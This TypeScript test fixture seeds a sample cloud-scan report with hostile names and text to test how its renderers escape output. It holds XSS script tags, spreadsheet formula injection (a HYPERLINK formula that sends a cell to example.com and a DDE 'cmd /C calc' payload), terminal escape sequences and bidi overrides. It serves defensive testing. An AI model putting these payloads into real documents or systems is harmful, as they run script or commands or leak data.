import type { Finding } from '../core/finding.ts'
import type { ScanReport } from '../core/report.ts'
import { sampleReport } from './sample-report.ts'

/** Names and words that whoever can rename an account, a trail or a tag may put in front of the reader. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
  payer: '<img src=x onerror=alert(1)>',
  prod: '=HYPERLINK("https://example.com/?"&A1,"open")',
  sandbox: '\u001b]0;owned\u0007\u001b[2Jclean',
  'log-archive': '本番ログ保管庫',
  security: '安全 🛡️ é\u0301quipe',
  data: '\u202eatad\u202c | `x` [y](https://example.com) ]]> & "q"',
  dev: "@SUM(1+1)*cmd|' /C calc'!A0",
}

const hostileWords = '</script><script>alert(1)</script> "quoted" & \u0000\u009b31m \ufffe --> ]]> | **bold** @everyone\n# heading'

const rename = <T extends { readonly name: string | null }>(account: T): T => ({
  ...account,
  name: HOSTILE_NAMES[account.name ?? ''] ?? account.name,
})

const poison = (finding: Finding): Finding => ({
  ...finding,
  account: rename(finding.account),
  failures: finding.failures.map(({ because }) => ({ subject: hostileWords, because: `${because} ${hostileWords}` })),
  missing: finding.missing.map((missing) => ({ ...missing, detail: `${missing.detail} ${hostileWords}` })),
  notes: finding.notes.map((note) => `${note} ${hostileWords}`),
  evidence: finding.evidence.map((evidence) => ({ ...evidence, says: `${evidence.says} ${hostileWords} ${'long '.repeat(400)}` })),
  accepted: finding.accepted === null ? null : { ...finding.accepted, reason: `=1+1 ${hostileWords}`, owner: '-2+3', approver: '+1' },
})

/** The sample report in the hands of somebody who wants to harm its reader: markup, formulas, escape sequences, wide characters. */
export function hostileReport(): ScanReport {
  const report = sampleReport()
  return {
    ...report,
    organisation: report.organisation === null ? null : { ...report.organisation, id: 'o-<b>example\u001b[31m' },
    accounts: report.accounts.map(rename),
    findings: report.findings.map(poison),
    actions: report.actions.map((action) => ({
      ...action,
      accounts: action.accounts.map(rename),
      because: `${action.because} ${hostileWords}`,
    })),
    changes:
      report.changes === null
        ? null
        : { ...report.changes, list: report.changes.list.map((change) => ({ ...change, account: rename(change.account) })) },
    coverage: {
      ...report.coverage,
      unreadAccounts: report.coverage.skippedAccounts.map((account) => ({ ...account, name: '\t=1+1', because: hostileWords })),
    },
  }
}
